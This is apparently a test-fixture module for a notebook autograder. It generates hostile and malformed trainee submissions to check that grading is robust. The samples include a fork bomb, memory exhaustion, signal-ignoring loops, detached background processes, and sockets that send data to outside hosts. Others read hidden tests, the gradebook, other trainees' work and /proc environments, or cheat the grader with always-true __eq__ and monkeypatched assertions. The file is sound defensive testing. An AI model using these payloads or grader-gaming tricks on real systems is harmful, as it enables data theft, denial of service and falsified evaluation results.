"""The hostile and broken submissions: each trainee below tries one thing (and two honest trainees do not).

Each submission is generated here, from the fixture exercise, so nothing large or dangerous is committed.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import nbformat

from tests.autograder.helpers import (
    EXERCISE_DIR,
    HIDDEN_TOKEN,
    NOTEBOOK_NAME,
    answered,
    grade_id,
    released,
    with_extra_cell,
    write_submission,
)

MARKER = "864213"
"""In the command line of every process a hostile submission leaves behind, so the tests can look for them."""

HONEST = ("alice", "bob", "siân-jones")


def without(notebook: dict[str, Any], *grade_ids: str) -> dict[str, Any]:
    notebook = copy.deepcopy(notebook)
    notebook["cells"] = [cell for cell in notebook["cells"] if grade_id(cell) not in grade_ids]
    return notebook


def replace_source(notebook: dict[str, Any], key: str, source: str) -> dict[str, Any]:
    notebook = copy.deepcopy(notebook)
    next(cell for cell in notebook["cells"] if grade_id(cell) == key)["source"] = source
    return notebook


def rename(notebook: dict[str, Any], old: str, new: str) -> dict[str, Any]:
    notebook = copy.deepcopy(notebook)
    next(cell for cell in notebook["cells"] if grade_id(cell) == old)["metadata"]["nbgrader"]["grade_id"] = (
        new
    )
    return notebook


RIGHT_TOTAL = 'total_rate = admissions["admissions"].sum() / admissions["population"].sum() * 1000'
RIGHT_MONTHLY = 'monthly = admissions.assign(rate=admissions["admissions"] / admissions["population"] * 1000)[["month", "rate"]]'

READ_SECRETS = """
import os, glob
secret_paths = {paths!r}
for path in secret_paths:
    try:
        with open(path, "rb") as handle:
            print("READ", path, handle.read(200))
    except OSError as error:
        print("NOT READABLE", path, type(error).__name__)
for pattern in ["/work/**/*.ipynb", "/tmp/**/*.ipynb", "/tmp/**/*.db", "/home/**/*"]:
    for path in glob.glob(pattern, recursive=True)[:50]:
        try:
            data = open(path, "rb").read(5_000_000)
            needle = bytes.fromhex("{token_hex}")  # the hidden test's marker, not spelt out in this cell
            if needle in data:
                print("FOUND SECRET IN", path, data[data.index(needle) - 200:][:400])
        except OSError:
            pass
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            print("PROCESS", pid, open(f"/proc/{{pid}}/cmdline", "rb").read()[:200])
        except OSError:
            pass
"""

CASES: dict[str, str] = {
    "alice": "honest, model answers",
    "bob": "honest, model answers and a cell of their own",
    "siân-jones": "honest, a name with a non-ASCII letter",
    "malformed-json": "malformed JSON",
    "empty-file": "an empty file",
    "nbformat-3": "an nbformat 3 notebook",
    "fifty-megabytes": "a 50 MB notebook",
    "not-a-notebook": "a Word document instead of a notebook",
    "png-named-ipynb": "a binary file named .ipynb",
    "symlink": "a symbolic link to the tutor's source notebook",
    "dots-in-name": "a notebook file name with '..' in it",
    "zoë": "a non-ASCII trainee name and notebook name",
    "deleted-test-cell": "a deleted test cell",
    "deleted-answer-cell": "a deleted answer cell",
    "renamed-grade-id": "renamed grade_ids",
    "reordered": "cells moved out of order",
    "edited-test": "a test cell edited to pass anything",
    "os-exit": "os._exit in an answer",
    "kernel-crash": "a segmentation fault",
    "infinite-loop": "an endless loop",
    "swallows-interrupt": "a loop that ignores KeyboardInterrupt and SIGTERM",
    "huge-print": "a 20 MB print",
    "memory-hog": "memory exhaustion",
    "fork-bomb": "a fork bomb",
    "background-process": "processes meant to outlive grading",
    "network": "network connections",
    "reads-secrets": "reading the hidden tests, the gradebook and other trainees' files",
    "always-equal": "answers whose __eq__ always returns True",
    "monkeypatch": "patched assert_frame_equal, isinstance and all",
    "stderr-warning": "warnings and stderr output while the tests run",
}


def write_cohort(root: Path, *, port: int, gradebook: Path) -> None:
    good = answered()
    write_submission(root, "alice", good)
    write_submission(
        root, "bob", with_extra_cell(good, "print('checking my answer', total_rate)", after="total_rate")
    )
    write_submission(root, "siân-jones", good)

    write_submission(root, "malformed-json", '{"cells": [ {"cell_type": "code", ')
    write_submission(root, "empty-file", b"")
    write_submission(root, "nbformat-3", json.dumps(nbformat.convert(nbformat.from_dict(good), 3)))
    big = copy.deepcopy(good)
    big["cells"][1]["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "x" * 50_000_000}]
    write_submission(root, "fifty-megabytes", big)
    (root / "not-a-notebook" / "admissions-rates").mkdir(parents=True)
    (root / "not-a-notebook" / "admissions-rates" / "answers.docx").write_bytes(b"PK\x03\x04 not really word")
    write_submission(root, "png-named-ipynb", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 10)
    link = root / "symlink" / "admissions-rates" / NOTEBOOK_NAME
    link.parent.mkdir(parents=True)
    link.symlink_to(EXERCISE_DIR / NOTEBOOK_NAME)
    write_submission(root, "dots-in-name", good, name="my..answers.ipynb")
    write_submission(root, "zoë", good, name="übung.ipynb")

    write_submission(root, "deleted-test-cell", without(good, "test_total_rate"))
    write_submission(root, "deleted-answer-cell", without(good, "rate_function"))
    write_submission(
        root,
        "renamed-grade-id",
        rename(rename(good, "test_rate_function", "my_test"), "total_rate", "answer_one"),
    )
    reordered = copy.deepcopy(good)
    monthly = next(cell for cell in reordered["cells"] if grade_id(cell) == "monthly")
    reordered["cells"].remove(monthly)
    reordered["cells"].insert(0, monthly)
    write_submission(root, "reordered", reordered)
    edited = replace_source(good, "total_rate", "total_rate = 1.0")
    edited = replace_source(edited, "test_total_rate", "assert True")
    write_submission(root, "edited-test", edited)

    write_submission(root, "os-exit", replace_source(good, "rate_function", "import os\nos._exit(0)"))
    write_submission(
        root, "kernel-crash", replace_source(good, "monthly", "import ctypes\nctypes.string_at(0)")
    )
    write_submission(root, "infinite-loop", replace_source(good, "total_rate", "while True:\n    pass"))
    swallow = (
        "import signal, time\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
        "while True:\n    try:\n        time.sleep(0.05)\n    except KeyboardInterrupt:\n        pass"
    )
    write_submission(root, "swallows-interrupt", replace_source(good, "rate_function", swallow))
    write_submission(root, "huge-print", with_extra_cell(good, "print('x' * 20_000_000)", after="total_rate"))
    hog = "hog = []\nwhile True:\n    hog.append(bytearray(10**7))\n" + RIGHT_MONTHLY
    write_submission(root, "memory-hog", replace_source(good, "monthly", hog))
    bomb = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"
    write_submission(root, "fork-bomb", with_extra_cell(good, bomb, after="test_monthly"))
    background = (
        f"import subprocess, os\nsubprocess.Popen(['sleep', '{MARKER}'], start_new_session=True)\n"
        f"if os.fork() == 0:\n    os.setsid()\n    os.execvp('sh', ['sh', '-c', 'sleep {MARKER}1; echo done'])"
    )
    write_submission(root, "background-process", with_extra_cell(good, background, after="total_rate"))
    network = (
        "import socket\nattempts = []\n"
        f"for address in [('127.0.0.1', {port}), ('1.1.1.1', 53), ('pypi.org', 443)]:\n"
        "    try:\n"
        "        socket.create_connection(address, timeout=2).sendall(b'stolen answers')\n"
        "        attempts.append('connected')\n"
        "    except OSError as error:\n"
        "        attempts.append(type(error).__name__)\n"
        "print(attempts)"
    )
    write_submission(root, "network", with_extra_cell(good, network, after="total_rate"))
    secret_paths = [
        str(EXERCISE_DIR / NOTEBOOK_NAME),
        str(gradebook),
        str(root / "alice" / "admissions-rates" / NOTEBOOK_NAME),
        "/proc/1/environ",
    ]
    secrets = READ_SECRETS.format(paths=secret_paths, token_hex=HIDDEN_TOKEN.encode().hex())
    write_submission(root, "reads-secrets", with_extra_cell(good, secrets, after="total_rate"))
    always = (
        "class Anything(float):\n    def __eq__(self, other):\n        return True\n    __hash__ = float.__hash__\n"
        "    def __abs__(self):\n        return 0.0\n    def __sub__(self, other):\n        return Anything(0)\n"
        "total_rate = Anything(0)"
    )
    sneaky = replace_source(good, "total_rate", always)
    sneaky = replace_source(
        sneaky,
        "rate_function",
        (
            "class Anything:\n    def __eq__(self, other):\n        return True\n"
            "def rate_per_1000(events, population):\n    return Anything()"
        ),
    )
    write_submission(root, "always-equal", sneaky)
    patch = (
        'monthly = admissions.assign(rate=0.0)[["month", "rate"]]\n'
        "import builtins, pandas.testing\n"
        "pandas.testing.assert_frame_equal = lambda *args, **kwargs: None\n"
        "builtins.isinstance = lambda *args: True\nbuiltins.all = lambda *args: True\n"
        "assert_frame_equal = lambda *args, **kwargs: None"
    )
    write_submission(root, "monkeypatch", replace_source(good, "monthly", patch))
    noisy = (
        "import sys, warnings\n"
        "def rate_per_1000(events, population):\n"
        "    warnings.warn('this will change', FutureWarning)\n"
        "    print('careful', file=sys.stderr)\n"
        "    if population <= 0:\n        raise ValueError('population must be positive')\n"
        "    return events / population * 1000"
    )
    write_submission(root, "stderr-warning", replace_source(good, "rate_function", noisy))
    assert sorted(p.name for p in root.iterdir()) == sorted(CASES), "every case has a submission"
    assert released()  # the released notebook is what trainees start from
